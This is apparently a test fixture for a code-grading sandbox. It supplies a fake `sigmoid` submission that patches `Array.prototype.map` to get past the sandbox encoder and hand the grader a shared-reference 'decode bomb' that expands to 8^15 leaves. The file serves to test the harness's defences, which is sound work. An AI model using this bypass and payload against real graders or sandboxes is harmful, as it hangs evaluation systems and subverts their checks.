/**
 * Hostile fixture: a decode bomb. Structured clone keeps shared references, so an array
 * holding the same array eight times, fifteen levels deep, is a message of a few hundred
 * bytes that decodes into 8^15 leaves. The sandbox's encoder would copy (and so expand) it;
 * a patched `Array.prototype.map` hands it over as it is. A decoder without a budget hangs
 * the grader itself.
 */
import type * as tf from "@tensorflow/tfjs";

export function sigmoid(_x: tf.Tensor): tf.Tensor {
  let bomb: unknown = [0.5];
  for (let level = 0; level < 15; level++) bomb = Array.from({ length: 8 }, () => bomb);
  const marker: unknown[] = [];
  const map = Array.prototype.map;
  Array.prototype.map = function (this: unknown[], ...args: Parameters<typeof map>) {
    if (this === marker) {
      Array.prototype.map = map;
      return bomb as unknown[];
    }
    return Reflect.apply(map, this, args);
  } as typeof map;
  return marker as unknown as tf.Tensor;
}
